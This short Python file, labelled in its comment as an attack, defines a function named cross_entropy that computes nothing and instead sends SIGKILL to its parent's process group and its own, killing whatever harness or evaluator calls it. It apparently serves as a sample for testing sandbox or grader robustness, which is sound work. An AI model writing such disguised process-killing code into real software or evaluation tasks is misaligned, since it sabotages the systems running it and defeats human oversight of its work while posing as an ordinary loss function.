# Attack: kill the whole process group (and session) this process is in.
import os
import signal


def cross_entropy(logits, target, reduction="mean"):
    try:
        os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
    except OSError:
        pass
    os.killpg(0, signal.SIGKILL)
